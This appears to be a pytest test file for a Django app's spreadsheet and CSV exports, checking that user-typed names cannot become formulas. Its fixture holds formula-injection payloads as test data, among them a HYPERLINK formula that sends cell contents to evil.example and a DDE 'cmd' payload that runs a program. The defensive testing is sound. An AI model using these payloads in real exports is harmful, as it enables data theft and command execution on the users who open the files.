"""Formula injection (issue 13, item 2): every export — every xlsx/CSV download the URLconf
offers and every command that writes CSV or xlsx — with hostile names in the data.

A name that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return must come out
as text: in xlsx a text cell (never a formula), in CSV with a leading ``'``; numbers stay
numbers (WORKBOOK.md). The export addresses are discovered from the URLconf, so an export
added later without a case here fails ``test_every_export_address_is_checked``.
"""

from __future__ import annotations

import csv
import datetime as dt
import inspect
import io
import re
import types
from decimal import Decimal as D

import pytest
from django.core.files.base import ContentFile
from django.core.management import call_command
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from common.csvout import csv_safe
from common.listing import ObjectListView
from common.roles import Role
from common.xlsx import FORMULA_TRIGGERS, is_formula_like
from deposits import services as deposits
from followup.services import supervision_open
from projects import services as projects
from rewards import services as rewards
from rewards.models import Claim
from targets.models import Indicator
from targets.services import quotas_save
from tests.factories import PromotionEventFactory, UnitFactory, UserFactory
from tests.rewards.factories import ReferrerFactory, make_rule
from units.models import Unit

YEAR = 2025  # an ended year: it is settled below
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# One hostile text per trigger, each carrying a marker so the test can see it came out.
HOSTILE = {
    "eq": '=HYPERLINK("http://evil.example/?x="&A1,"甲镇")',
    "plus": "+1+2乙镇",
    "minus": "-2+3丙镇",
    "at": "@SUM(1,2)丁镇",
    "tab": "\t=1+2戊镇",
    "cr": "\r=3+4己镇",
}
CODES = ("H01", "-H2", "H03", "H04", "H05", "H06")
MARKERS = ("HYPERLINK", "乙镇", "丙镇", "丁镇", "戊镇", "己镇", "=cmd", "+cmd", "@cmd", "-cmd")


# --- discovery of the export addresses ---------------------------------------------------

PROJECT_APPS = ("accounts", "common", "config", "deposits", "projects", "rewards", "targets")
PROJECT_APPS += ("units", "workbook")
PROJECT_APPS += ("keyprojects",)
# What only code that writes a spreadsheet or a CSV file contains.
EXPORT_MARKERS = (
    "XLSX_CONTENT_TYPE",
    "xlsx_response",
    "write_sheet",
    "report_workbook",
    "text/csv",
    "csv.writer",
    "safe_writer",
    "spreadsheetml",
    "Workbook(",
)
EXPORT_WORDS = ("export", "xlsx", "csv", "download", "report", "sheet")


def _ours(obj) -> bool:
    module = getattr(obj, "__module__", None) or ""
    return module.split(".")[0] in PROJECT_APPS


def _code_objects(code: types.CodeType):
    yield code
    for const in code.co_consts:
        if isinstance(const, types.CodeType):
            yield from _code_objects(const)


def _reaches_export(obj, seen: set) -> bool:
    """Does this view (or any function or class of the project it names, followed through
    the call graph) write a spreadsheet or a CSV file?"""
    obj = inspect.unwrap(obj) if callable(obj) else obj
    if id(obj) in seen or not _ours(obj):
        return False
    seen.add(id(obj))
    if inspect.isclass(obj):
        return any(
            _reaches_export(member, seen)
            for klass in obj.__mro__
            if _ours(klass)
            for member in vars(klass).values()
            if inspect.isfunction(member) or inspect.isclass(member)
        )
    if not inspect.isfunction(obj):
        return False
    try:
        source = inspect.getsource(obj)
    except (OSError, TypeError):
        return False
    if any(marker in source for marker in EXPORT_MARKERS):
        return True
    names = set()
    for code in _code_objects(obj.__code__):
        names.update(code.co_names)
    targets = []
    for name in names:
        found = obj.__globals__.get(name)
        if isinstance(found, types.ModuleType):
            if found.__name__.split(".")[0] in PROJECT_APPS:
                targets.extend(getattr(found, n) for n in names if hasattr(found, n))
        elif found is not None:
            targets.append(found)
    return any(
        _reaches_export(t, seen) for t in targets if inspect.isfunction(t) or inspect.isclass(t)
    )


def _walk(patterns, prefix="", namespace=""):
    for entry in patterns:
        if isinstance(entry, URLResolver):
            ns = entry.namespace or ""
            yield from _walk(
                entry.url_patterns,
                prefix + str(entry.pattern),
                f"{namespace}{ns}:" if ns else namespace,
            )
        elif isinstance(entry, URLPattern):
            yield f"{namespace}{entry.name or ''}", prefix + str(entry.pattern), entry.callback


def discovered_exports() -> set[str]:
    found = set()
    for name, route, callback in _walk(get_resolver().url_patterns):
        if name.startswith("admin:") or route.startswith("admin/"):
            continue  # Django's own admin offers no export
        view = getattr(callback, "view_class", None) or callback
        by_name = any(word in f"{name} {route}".lower() for word in EXPORT_WORDS)
        by_class = inspect.isclass(view) and issubclass(view, ObjectListView)
        if by_name or by_class or _reaches_export(view, set()):
            found.add(name)
    return found


# --- the hostile data ------------------------------------------------------------------


@pytest.fixture
def hostile(db, commerce, finance, clerk):
    """Units, projects, inflows, an event, a referrer, a reward rule, claims, tax records,
    deposits and a settled year, with a hostile text in every name a person types."""
    ind = {i.code: i for i in Indicator.objects.all()}
    units = [
        UnitFactory(code=code, name=name)
        for code, name in zip(CODES, HOSTILE.values(), strict=True)
    ]
    for order, unit in enumerate(units, start=1):
        Unit.objects.filter(pk=unit.pk).update(display_order=order)
    event = PromotionEventFactory(name="=cmd|' /C calc'!A0", place="@cmd 深圳")
    for unit in units:  # a 督办单 to each unit, its matter hostile too
        supervision_open(
            user=commerce, unit=unit, matter="=1+2 请说明", deadline=timezone.localdate()
        )
    unit_values = {}
    for year in (YEAR, 2026):
        for unit in units:
            unit_values[(unit.pk, ind["fdi_actual"].pk)] = D("100")
            unit_values[(unit.pk, ind["domestic_actual"].pk)] = D("1000")
        quotas_save(year=year, unit_values=unit_values, district_values={}, user=commerce)
    made = []
    for n, unit in enumerate(units):
        for year in (YEAR, 2026):
            project = projects.project_create(
                user=commerce,
                data={
                    "code": f"H-{year}-{n}",
                    "name": f"{list(HOSTILE.values())[n]}项目",
                    "capital_type": "domestic",
                    "unit": unit,
                    "investor": "+cmd 投资有限公司",
                    "origin": "广东省",
                    "stage": "signed",
                    "signed_on": dt.date(year, 1, 10),
                    "contract_amount": D("1000"),
                    "registered_capital": D("3500"),
                    "event": event,
                },
            )
            inflow = projects.inflow_create(
                user=commerce,
                project=project,
                data={
                    "arrived_on": dt.date(year, 3, 1),
                    "amount": D("600"),
                    "voucher_no": f"V{year}-{n}",
                },
            )
            if year == YEAR or n % 2:
                projects.inflow_verify(inflow=inflow, user=commerce)
            made.append(project)
        deposits.deposit_record(
            year=YEAR,
            unit=unit,
            amount=D("3000.00"),
            paid_on=dt.date(YEAR, 4, 1),
            receipt_no=f"CZ-{n}",
            user=finance,
        )
    deposits.settle_year(year=YEAR, user=finance)

    # Rewards: a referrer with a hostile name, a rule with a hostile note, claims at every
    # step, a paid one for the payouts summary, tax records with hostile notes.
    make_rule(2026, note="=cmd 规则说明")
    referrer = ReferrerFactory(name="-cmd 王引资", contact="=cmd 13800000000")
    current = [p for p in made if p.signed_on.year == 2026]
    for project in current[:3]:
        rewards.project_referrer_create(user=commerce, project=project, referrer=referrer)
    filed = rewards.claim_file(user=commerce, project=current[0], kind="fee")
    paid = rewards.claim_file(user=commerce, project=current[1], kind="fee")
    # No account performs two consecutive steps of one claim (DOMAIN.md).
    reviewer = UserFactory(username="commerce2", role=Role.COMMERCE)
    cashier = UserFactory(username="finance2", role=Role.FINANCE)
    paid = rewards.claim_review(claim=paid, user=reviewer)
    paid = rewards.claim_approve(claim=paid, user=finance)
    rewards.claim_pay(
        claim=paid, user=cashier, paid_on=timezone.localdate(), voucher_no="=cmd-凭证"
    )
    Claim.objects.filter(pk=paid.pk).update(treasury=HOSTILE["eq"])
    for project in current[:2]:
        rewards.tax_record_save(
            user=finance,
            project=project,
            year=2026,
            local_retained_tax=D("120.00"),
            note="@cmd 税收备注",
        )

    # Key projects of the hostile units, with a hostile 包保领导.
    from keyprojects.services import key_project_create

    for project in current[:2]:
        key_project_create(
            user=commerce, project=project, level="city", leader_name="=cmd 张", leader_post="@cmd"
        )

    # A refused upload of the commerce bureau's, whose rows and error message are hostile.
    from workbook.models import BatchStatus, ImportBatch

    book = Workbook()
    book.active.title = "项目"
    book.active.append(["项目编号", "项目名称"])
    book.active.append(["X-1", HOSTILE["eq"]])
    cell = book.active["B2"]
    cell.data_type = "s"  # typed as text, as a spreadsheet stores '=…
    buffer = io.BytesIO()
    book.save(buffer)
    batch = ImportBatch(
        user=commerce,
        original_name="bad.xlsx",
        status=BatchStatus.REFUSED,
        summary={
            "ok": False,
            "counts": {},
            "errors": [
                {"sheet": "项目", "cell": "C2", "message": "=cmd 类型不能为空", "text": "x"},
                {"sheet": "=cmd", "cell": "", "message": "+cmd 未知工作表", "text": "y"},
            ],
            "warnings": [],
        },
    )
    batch.file.save("bad.xlsx", ContentFile(buffer.getvalue()), save=False)
    batch.save()
    from tests.complaints.fixtures import hostile_complaints

    hostile_complaints(commerce, units)

    # Reported figures (报送) of a hostile-named unit, for a hostile-named reported indicator.
    from targets.reported import reported_create
    from tests.targets.reported_helpers import make_reported_indicator

    factory = make_reported_indicator(name="=cmd 标准厂房", unit_label="+平方米")
    for month in (1, 2):
        reported_create(
            user=commerce,
            unit=units[0],
            data={"year": YEAR, "month": month, "indicator": factory, "amount": D("100")},
        )
    return {
        "units": units,
        "batch": batch,
        "referrer": referrer,
        "claim": filed,
        "reported_unit": units[0],
    }


# --- the checked exports ---------------------------------------------------------------

# url name → (arguments, query string, the roles to try in turn)
LIST = ("?export=xlsx", ("commerce", "finance"))
EXPORTS = {
    "units:list": ((), *LIST),
    "projects:list": ((), *LIST),
    "projects:inflow_list": ((), *LIST),
    "projects:verification": ((), *LIST),
    "projects:event_list": ((), *LIST),
    "rewards:referrer_list": ((), *LIST),
    "rewards:tax_list": ((), *LIST),
    "rewards:claim_list": ((), *LIST),
    "rewards:claim_queue": ((), "?export=xlsx", ("commerce", "finance", "clerk")),
    "rewards:payouts": ((), f"?year={dt.date.today().year}&export=xlsx", ("finance",)),
    "targets:dashboard": ((), f"?year={YEAR}&as_of={YEAR}-12-31&export=xlsx", ("commerce",)),
    "targets:ranking": ((), f"?year={YEAR}&as_of={YEAR}-12-31&export=xlsx", ("commerce",)),
    "deposits:board": ((YEAR,), "?export=xlsx", ("finance",)),
    "deposits:settlement_sheet": ((YEAR,), "", ("finance",)),
    "workbook:errors": (("batch",), "", ("commerce",)),
    "followup:list": ((), "?export=xlsx", ("commerce",)),
    "complaints:list": ((), *LIST),
    "complaints:statistics": ((), "?export=xlsx", ("commerce",)),
    "keyprojects:board": ((), *LIST),
    "targets:reported_list": ((), *LIST),
    "targets:reported_verification": ((), "?export=xlsx", ("commerce",)),
    "targets:reported_unit_list": (("reported_unit",), *LIST),
}
# Downloads that carry no data a person typed, checked all the same.
DATA_FREE = {
    "workbook:template": (("projects",), "", ("commerce",)),
    "rewards:rule_list": ((), *LIST),  # years and amounts only
}
# Addresses whose name matches a word above but write no spreadsheet (say why).
NOT_EXPORTS = {
    "projects:inflow_evidence": "the uploaded scan itself (PDF or image), not a table",
    "deposits:settlement": "the settlement page; its sheet is deposits:settlement_sheet",
    "deposits:settlement_confirm": "a POST that records the settlement",
    "deposits:settlement_reverse": "a POST that reverses the settlement",
    "rewards:tax_import": "an upload form for tax files",
    "workbook:upload": "an upload form",
    "workbook:preview": "the import preview page",
    "workbook:confirm": "a POST that imports the workbook",
    "reporting:park": "a page (the app's name says report); it offers no download",
    "reporting:events": "a page (the app's name says report); it offers no download",
    "reporting:pipeline": "a page (the app's name says report); it offers no download",
    "reporting:forecast": "a page (the app's name says report); forecast_report is the CSV",
    # An export, but none of the roles here may download it: only the audit administrator
    # (identity's role). Its hostile-text check is tests/audit/test_pages.py; move it to
    # EXPORTS when the fixtures here have that role.
    "audit:event_list": "the audit log's export, checked in tests/audit/test_pages.py",
    # Reported figures (报送): "report" is in their names; the lists above are their exports.
    "targets:reported_create": "a form to report a month's figure",
    "targets:reported_detail": "a reported figure's page",
    "targets:reported_update": "a form to edit a reported figure",
    "targets:reported_delete": "a POST that deletes a pending figure",
    "targets:reported_verify": "a POST that verifies a figure",
    "targets:reported_return": "a POST that returns a figure",
    "targets:reported_unverify": "a POST that takes a verification back",
    "targets:reported_evidence": "the uploaded scan itself (PDF or image), not a table",
}


def assert_no_formula(book_bytes: bytes, where: str) -> list[str]:
    """Every cell of every sheet: never a formula; formula-like text is quoted text."""
    book = load_workbook(io.BytesIO(book_bytes))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                assert cell.data_type != "f", f"{where} {sheet.title}!{cell.coordinate}: {value!r}"
                if isinstance(value, str):
                    texts.append(value)
                    if value.startswith("="):  # text, not a formula (our writers also
                        # set the quote prefix; the uploader's own text cells keep theirs)
                        assert cell.data_type == "s", f"{where} {sheet.title}!{cell.coordinate}"
    return texts


def _client(users, role):
    client = Client()
    client.force_login(users[role])
    return client


def fetch(users, hostile, name, args, query, roles):
    args = [hostile[a].pk if a in ("batch", "reported_unit") else a for a in args]
    url = reverse(name, args=args) + query
    for role in roles:
        response = _client(users, role).get(url)
        if response.status_code == 200 and response["Content-Type"].startswith(XLSX):
            return response
    raise AssertionError(f"{name}: no role in {roles} could download {url}")


def test_every_export_address_is_checked():
    found = discovered_exports()
    # The discovery itself works: it finds the exports it must find.
    assert {"units:list", "targets:dashboard", "deposits:settlement_sheet"} <= found
    assert {"workbook:errors", "workbook:template", "rewards:payouts"} <= found
    unchecked = found - set(EXPORTS) - set(DATA_FREE) - set(NOT_EXPORTS)
    assert not unchecked, (
        f"export addresses without a hostile-data check: {sorted(unchecked)} — add them to "
        "EXPORTS in tests/common/test_hostile_exports.py"
    )


def test_the_checked_names_exist():
    names = {name for name, _route, _cb in _walk(get_resolver().url_patterns)}
    assert set(EXPORTS) | set(DATA_FREE) | set(NOT_EXPORTS) <= names


def test_parameterless_pages_return_no_unchecked_spreadsheet(hostile, users):
    """The other side of discovery: ask every address without parameters (and every one
    that takes only a year) for an export, and see which answer with a spreadsheet or CSV."""
    checked = set(EXPORTS) | set(DATA_FREE)
    for name, route, _callback in _walk(get_resolver().url_patterns):
        if name in checked or name.startswith("admin:") or route.startswith("admin/"):
            continue
        params = re.findall(r"<(?:\w+:)?(\w+)>", route)
        if params not in ([], ["year"]):
            continue
        url = reverse(name, args=[YEAR] if params else [])
        for query in ("?export=xlsx", "?export=csv", "?format=csv", "?format=xlsx"):
            for role in ("commerce", "finance"):
                response = _client(users, role).get(url + query)
                kind = response.get("Content-Type", "")
                assert "spreadsheet" not in kind and "csv" not in kind, (
                    f"{name} ({url}{query}) is an export no test checks"
                )


def test_every_export_writes_hostile_names_as_text(hostile, users):
    """One pass over every checked address (one data set: the fixture is costly)."""
    for name, (args, query, roles) in sorted(EXPORTS.items()):
        response = fetch(users, hostile, name, args, query, roles)
        texts = assert_no_formula(response.content, name)
        joined = "\n".join(texts)
        assert any(marker in joined for marker in MARKERS), f"{name}: no hostile text exported"


def test_a_hostile_name_comes_out_unchanged_as_quoted_text(hostile, users):
    """The units list: the name is the very text typed, a text cell with the quote prefix."""
    response = fetch(users, hostile, "units:list", *EXPORTS["units:list"])
    book = load_workbook(io.BytesIO(response.content))
    cells = {cell.value: cell for row in book.active.iter_rows() for cell in row if cell.value}
    for text in HOSTILE.values():
        assert text in cells, repr(text)  # a carriage return too (written as &#13;)
        assert cells[text].data_type == "s"
        assert cells[text].quotePrefix


def test_data_free_downloads_carry_no_formula(hostile, users):
    for name, (args, query, roles) in DATA_FREE.items():
        response = fetch(users, hostile, name, args, query, roles)
        assert_no_formula(response.content, name)


def test_the_settlement_sheet_keeps_amounts_as_numbers(hostile, users):
    response = fetch(
        users, hostile, "deposits:settlement_sheet", *EXPORTS["deposits:settlement_sheet"]
    )
    book = load_workbook(io.BytesIO(response.content))
    numbers = [
        cell.value
        for row in book.active.iter_rows()
        for cell in row
        if isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool)
    ]
    assert 3000 in numbers


# --- the commands ----------------------------------------------------------------------


def run(*args) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    call_command(*args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def assert_csv_quoted(text: str, where: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows, where
    hostile_seen = 0
    for row in rows:
        for field in row:
            assert not field.startswith(FORMULA_TRIGGERS) or not is_formula_like(field), (
                f"{where}: {field!r} would run as a formula"
            )
            if field.startswith("'") and is_formula_like(field[1:]):
                hostile_seen += 1
    assert hostile_seen, f"{where}: no hostile text came out"
    return rows


COMMANDS = {
    "progress_report csv": ("progress_report", "--year", str(YEAR), "--as-of", f"{YEAR}-12-31"),
    "settle_deposits": ("settle_deposits", "--year", str(YEAR)),
    "forecast_report": ("forecast_report", "--year", str(YEAR), "--as-of", f"{YEAR}-06-30"),
}


@pytest.mark.parametrize("label", sorted(COMMANDS))
def test_csv_command_quotes_hostile_names(label, hostile):
    out, _err = run(*COMMANDS[label])
    rows = assert_csv_quoted(out, label)
    names = {row[1] for row in rows}
    for text in HOSTILE.values():
        assert csv_safe(text) in names
        assert csv_safe(text) == "'" + text
    assert any(row[0] == "'-H2" for row in rows)  # a code is quoted too


def test_progress_report_keeps_negative_numbers_as_numbers(hostile):
    """-8.34 stays a number: a field that is a plain number is never quoted."""
    out, _err = run(*COMMANDS["progress_report csv"])
    rows = list(csv.reader(io.StringIO(out, newline="")))[1:]
    numeric = [field for row in rows for field in row[3:] if field]
    assert numeric and all(not field.startswith("'") for field in numeric)
    assert any(field.startswith("-") for field in numeric)  # 超欠百分点 behind schedule


def test_progress_report_xlsx_writes_hostile_names_as_text(hostile, tmp_path):
    target = tmp_path / "progress.xlsx"
    run(*COMMANDS["progress_report csv"], "--format", "xlsx", "--output", str(target))
    texts = assert_no_formula(target.read_bytes(), "progress_report xlsx")
    for text in HOSTILE.values():
        assert text in texts, repr(text)


def test_progress_report_csv_to_a_file_quotes_too(hostile, tmp_path):
    target = tmp_path / "progress.csv"
    run(*COMMANDS["progress_report csv"], "--output", str(target))
    text = target.read_bytes().decode("utf-8")  # no newline translation: a CR stays a CR
    rows = assert_csv_quoted(text, "progress_report --output")
    assert {row[1] for row in rows} >= {"'" + text for text in HOSTILE.values()}


RANKING = ("ranking_report", "--year", str(YEAR), "--as-of", f"{YEAR}-12-31")


def test_ranking_report_quotes_hostile_names_and_keeps_numbers(hostile, tmp_path):
    out, _err = run(*RANKING)
    rows = assert_csv_quoted(out, "ranking_report")
    assert {row[2] for row in rows[1:]} == {csv_safe(text) for text in HOSTILE.values()}
    assert any(row[1] == "'-H2" for row in rows)  # a code is quoted too
    numbers = [field for row in rows[1:] for field in (row[0], *row[4:])]
    assert numbers and all(not field.startswith("'") for field in numbers)
    target = tmp_path / "ranking.xlsx"
    run(*RANKING, "--format", "xlsx", "--output", str(target))
    texts = assert_no_formula(target.read_bytes(), "ranking_report xlsx")
    for text in HOSTILE.values():  # (a carriage return survives with lxml, see main)
        assert text in texts or text.replace("\r", "\n") in texts, repr(text)


# --- the writers themselves ------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+2", "'-1+2"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-8.34", "-8.34"),
        ("+5", "+5"),
        ("甲镇", "甲镇"),
        ("", ""),
        (D("-8.34"), D("-8.34")),
        (-3, -3),
        (None, None),
    ],
)
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


def test_xlsx_writer_keeps_numbers_and_quotes_text():
    from common.xlsx import write_sheet

    book = Workbook(write_only=True)
    write_sheet(book, "=sheet", ["=h", "n"], [["=1+1", D("-8.34")], ["-1+2", -3], ["+5", 1.5]])
    buffer = io.BytesIO()
    book.save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert sheet["A1"].value == "=h" and sheet["A1"].data_type == "s"
    assert sheet["A2"].value == "=1+1" and sheet["A2"].data_type == "s"
    assert sheet["A2"].quotePrefix
    assert sheet["B2"].value == -8.34 and sheet["B2"].data_type == "n"
    assert sheet["A3"].value == "-1+2" and sheet["A3"].quotePrefix
    assert sheet["B3"].value == -3 and sheet["B3"].data_type == "n"
    assert sheet["B4"].value == 1.5
